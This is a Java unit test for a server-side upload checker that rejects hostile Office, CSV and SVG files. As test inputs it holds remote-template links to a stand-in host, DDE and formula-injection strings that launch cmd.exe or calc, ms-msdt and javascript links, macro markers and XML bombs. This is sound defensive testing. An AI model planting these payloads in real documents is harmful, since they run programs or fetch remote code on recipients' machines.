package io.gongjian.webapp.adapter.document;

import static io.gongjian.webapp.adapter.document.OfficeFiles.docx;
import static io.gongjian.webapp.adapter.document.OfficeFiles.field;
import static io.gongjian.webapp.adapter.document.OfficeFiles.formula;
import static io.gongjian.webapp.adapter.document.OfficeFiles.instruction;
import static io.gongjian.webapp.adapter.document.OfficeFiles.outside;
import static io.gongjian.webapp.adapter.document.OfficeFiles.step;
import static io.gongjian.webapp.adapter.document.OfficeFiles.text;
import static io.gongjian.webapp.adapter.document.OfficeFiles.types;
import static io.gongjian.webapp.adapter.document.OfficeFiles.utf16;
import static io.gongjian.webapp.adapter.document.OfficeFiles.xlsx;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;

import io.gongjian.engine.upload.VirusScanner;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is hidden from a look at letters is found by reading the parts as Office does. */
class HiddenInOfficeFilesTest {

  private static final String TEMPLATE = outside("attachedTemplate", "http://bad.example/t.dotm");
  private static final String SETTINGS = "word/_rels/settings.xml.rels";

  private final ReceivedFiles files;

  HiddenInOfficeFilesTest(@TempDir Path folder) {
    this.files = new ReceivedFiles(folder, file -> VirusScanner.Answer.CLEAN);
  }

  private void refuses(String name, byte[] content, String fault) {
    assertThat(files.fault(files.handIn(name, content))).isEqualTo(fault);
  }

  private void takes(String name, byte[] content) {
    assertThat(files.fault(files.handIn(name, content))).as(name).isEmpty();
  }

  @Test
  void aTemplateFromElsewhereBehindCharacterReferences() throws IOException {
    String hidden = TEMPLATE.replace("External", "&#69;xt&#x65;rnal").replace("http", "&#104;ttp");
    refuses("a.docx", docx(SETTINGS, hidden), "external_link");
  }

  @Test
  void aTemplateFromElsewhereInAnotherWidthOfLetters() throws IOException {
    refuses("a.docx", docx(SETTINGS, utf16(TEMPLATE)), "external_link");
  }

  @Test
  void aTemplateFromElsewhereFarBehind() throws IOException {
    String far =
        TEMPLATE.replace("<Relationships>", "<Relationships><!--" + "x".repeat(400_000) + "-->");
    refuses("a.docx", docx(SETTINGS, far), "external_link");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "_rels/.rels",
        "customXml/_rels/item1.xml.rels",
        "docs/_rels/document.xml.rels",
        "WORD/_RELS/SETTINGS.XML.RELS",
        "word/glossary/_rels/settings.xml.rels"
      })
  void aTemplateFromElsewhereInAnotherFolder(String place) throws IOException {
    refuses("a.docx", docx(place, TEMPLATE), "external_link");
  }

  @Test
  void aTemplateFromElsewhereUnderAPrefix() throws IOException {
    String prefixed =
        TEMPLATE
            .replace("<Relationship", "<r:Relationship")
            .replace("</Relationship", "</r:Relationship");
    refuses("a.docx", docx(SETTINGS, prefixed), "external_link");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\\\\bad.example\\share\\t.dotm",
        "file://bad.example/share/t.dotm",
        "https://bad.example/t.dotx",
        "//bad.example/t.dotm",
        "t.dotm"
      })
  void aTemplateByWhateverAddress(String target) throws IOException {
    refuses("a.docx", docx(SETTINGS, outside("attachedTemplate", target)), "external_link");
  }

  @Test
  void aTemplateOfTheOwnMachineFetchesNothing() throws IOException {
    for (String target :
        List.of(
            "file:///C:\\Users\\li\\Templates\\Normal.dotm",
            "file:///D:/t%20a.dotx",
            "C:\\t.dotx")) {
      takes("a.docx", docx(SETTINGS, outside("attachedTemplate", target)));
    }
  }

  @Test
  void linksThatWaitForAClickAreTakenUnlessTheyRun() throws IOException {
    String rels = "word/_rels/document.xml.rels";
    for (String target : List.of("https://www.gov.cn/", "mailto:a@b.cn", "图纸.pdf", "#place")) {
      takes("a.docx", docx(rels, outside("hyperlink", target)));
    }
    for (String target :
        List.of("javascript:x()", "ms-msdt:/id", " Java&#9;Script:x", "search-ms:q")) {
      refuses("a.docx", docx(rels, outside("hyperlink", target)), "external_link");
    }
  }

  @Test
  void typesOfMacrosInWhateverWidthAndPlace() throws IOException {
    String vba = types("/word/x.bin", "application/vnd.ms-office.&#118;baProject");
    byte[] hidden = HostileFiles.zip(OfficeFiles.TYPES, vba, "word/document.xml", "<x/>");
    refuses("a.docx", hidden, "macro");
    byte[] wide =
        HostileFiles.zip(
            OfficeFiles.TYPES,
            utf16(
                types(
                    "/word/document.xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml")),
            "word/document.xml",
            "<x/>");
    refuses("a.docx", wide, "macro");
    String related =
        "<Relationships><Relationship Target='../other/m.dat' Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject'/></Relationships>";
    refuses("a.docx", docx("word/_rels/document.xml.rels", related, "other/m.dat", "x"), "macro");
    String sheet =
        "<Relationships><Relationship Target='s.xml' Type='http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet'/></Relationships>";
    refuses("a.xlsx", xlsx("xl/_rels/workbook.xml.rels", sheet), "macro");
    String slide = "<p:sld><a:hlinkClick action='ppaction://program'/></p:sld>";
    refuses(
        "a.zip", HostileFiles.zip("b.pptx", OfficeFiles.pptx("ppt/slides/s.xml", slide)), "macro");
  }

  @Test
  void fieldsThatStartPrograms() throws IOException {
    List<String> hostile =
        List.of(
            field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""),
            field(" dde excel x"),
            field("DD", "EAU", "TO cmd"),
            field("D&#68;E cmd"),
            field("<w:r><w:t>DDE</w:t></w:r>", " cmd"),
            field(field("QUOTE 68 68 69"), " cmd"),
            field("D", field("QUOTE 68 69"), " cmd"),
            field("IF 1=1 ", field("DDEAUTO cmd")),
            step("begin") + instruction("DDEAUTO cmd") + step("end"),
            step("begin") + instruction("DDEAUTO cmd"),
            "<w:fldSimple w:instr=' DDEAUTO cmd'/>");
    for (String one : hostile) {
      byte[] file = docx("word/footer1.xml", text(one));
      assertThat(files.fault(files.handIn("a.docx", file))).as(one).isEqualTo("dde");
    }
    refuses("a.docx", docx("word/header1.xml", utf16(text(hostile.get(0)))), "dde");
  }

  @Test
  void fieldsThatFetch() throws IOException {
    for (String instruction :
        List.of(
            "INCLUDETEXT \"http://bad.example/a\"",
            "INCLUDEPICTURE \"https://bad.example/a.png\" \\d",
            "INCLUDETEXT \"\\\\\\\\bad.example\\\\a\"",
            "LINK Word.Document \"\\\\\\\\bad\\\\a.docx\" \\a")) {
      byte[] file = docx("word/header1.xml", text(field(instruction)));
      assertThat(files.fault(files.handIn("a.docx", file)))
          .as(instruction)
          .isEqualTo("external_link");
    }
  }

  @Test
  void fieldsOfOrdinaryTextsAreTaken() throws IOException {
    String ordinary =
        field(" TOC \\o \"1-3\" \\h \\z \\u ")
            + field(" PAGE ", " \\* MERGEFORMAT")
            + field("=", field("NUMPAGES"), "-1")
            + field(" IF ", field("PAGE"), " = 1 \"a\" \"b\"")
            + field(" HYPERLINK \"https://www.gov.cn\" \\o \"\\\\\" ")
            + field(" INCLUDEPICTURE \"http://www.gov.cn/a.png\" \\* MERGEFORMATINET ")
            + field(" INCLUDEPICTURE \\d \"C:\\\\Users\\\\a\\\\Temp\\\\x.png\" ")
            + step("begin")
            + "<w:r><w:t>the DDE protocol, DDEAUTO</w:t></w:r>"
            + field(" REF _Ref1 \\h ");
    takes("a.docx", docx("word/header1.xml", text(ordinary)));
  }

  @Test
  void formulasThatStartPrograms() throws IOException {
    for (String one :
        List.of(
            "cmd|'/c calc'!A0",
            "1+excel|x!y",
            "DDE(\"soffice\";\"a\";\"b\")",
            "_xlfn.CALL (\"k\",\"x\")",
            "REGISTER.ID(\"k\",\"x\")")) {
      byte[] file = xlsx("xl/worksheets/sheet1.xml", formula(one));
      assertThat(files.fault(files.handIn("a.xlsx", file))).as(one).isEqualTo("dde");
    }
    String link = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>";
    refuses("a.xlsx", xlsx("xl/externalLinks/externalLink1.xml", link), "dde");
    refuses("a.xlsx", xlsx("somewhere/x.bin", utf16(link)), "dde");
    String named =
        "<workbook><definedNames><definedName>cmd|x!a</definedName></definedNames></workbook>";
    refuses("a.xlsx", xlsx("xl/w.xml", named), "dde");
  }

  @Test
  void tablesAsTextThatStartPrograms() throws IOException {
    for (String table :
        new String[] {
          "a,b\r\n1,=cmd|'/c calc'!A0",
          "\"+cmd|' /c calc, x'!A0\";2",
          "@SUM(1)*cmd|'x'!A0",
          "a\t -cmd|'x'!A0"
        }) {
      refuses("a.zip", HostileFiles.zip("t.csv", table), "dde");
      refuses("a.zip", HostileFiles.zip("t.csv", ("\ufeff" + table).getBytes(UTF_16LE)), "dde");
    }
    takes("a.zip", HostileFiles.zip("t.csv", "名称|规格,-5|x,=SUM(A1)\r\n\"a\"\"b|c!\",+86 10"));
  }

  @Test
  void formulasOfOrdinaryWorkbooksAreTaken() throws IOException {
    for (String one :
        List.of(
            "SUM(A1:A9)*2",
            "\"a|b\"&\"c\"\"|d\"",
            "'一|二'!A1",
            "表1[单价|元]",
            "Table1[[#This Row],[a'|b']c|d]]",
            "RECALL(1)+CALLS",
            "_xlfn.DISPIMG(\"ID_1\",1)")) {
      takes("a.xlsx", xlsx("xl/worksheets/sheet1.xml", formula(one)));
    }
  }

  @Test
  void workbooksThatFetchWhenTheyOpen() throws IOException {
    String refreshed = "<connections><connection refreshOnLoad='1'/></connections>";
    refuses("a.xlsx", xlsx("xl/connections.xml", refreshed), "external_link");
    String kept = "<connections><connection id='1' name='查询'/></connections>";
    takes("a.xlsx", xlsx("xl/connections.xml", kept));
  }

  @Test
  void aPageOfTheWebInAPart() throws IOException {
    refuses("a.docx", docx("word/chunk.xml", "<html><body/></html>"), "archive_forbidden_entry");
    refuses("a.docx", docx("word/chunk.dat", "<HTML><p>x"), "archive_forbidden_entry");
  }

  @Test
  void aPictureOfMarkupIsTakenUnlessItRuns() throws IOException {
    String picture =
        "<svg xmlns='http://www.w3.org/2000/svg'><a href='http://x.cn'/><path d='M0'/></svg>";
    takes("a.docx", docx("word/media/image1.svg", picture));
    refuses(
        "a.docx", docx("word/media/image1.svg", "<svg onload='x()'/>"), "archive_forbidden_entry");
    refuses(
        "a.docx", docx("word/media/image1.svg", "<svg><script/></svg>"), "archive_forbidden_entry");
    refuses(
        "a.docx",
        docx("word/media/i.svg", "<svg><image href='http://x.cn/a'/></svg>"),
        "external_link");
    refuses("a.zip", HostileFiles.zip("a.svg", picture), "archive_forbidden_entry");
  }

  @Test
  void partsThatCannotBeReadAreDamagedUnlessOfficeWritesThemSo() throws IOException {
    refuses("a.docx", docx("word/settings.xml", "<a><b></a>"), "damaged");
    takes("a.xlsx", xlsx("xl/drawings/vmlDrawing1.vml", "<xml><v:textbox><br></v:textbox></xml>"));
    takes("a.docx", docx("word/fonts/font1.odttf", "<\u0001\u0002", "customXml/item1.xml", ""));
  }

  @Test
  void depthAndLengthOfPartsAreBounded() throws IOException {
    refuses(
        "a.docx", docx("word/a.xml", "<a>".repeat(3_000) + "</a>".repeat(3_000)), "too_complex");
    String token = "<a b='" + "x".repeat(9 << 20) + "'/>";
    refuses("a.docx", docx("word/a.xml", token), "too_complex");
  }
}
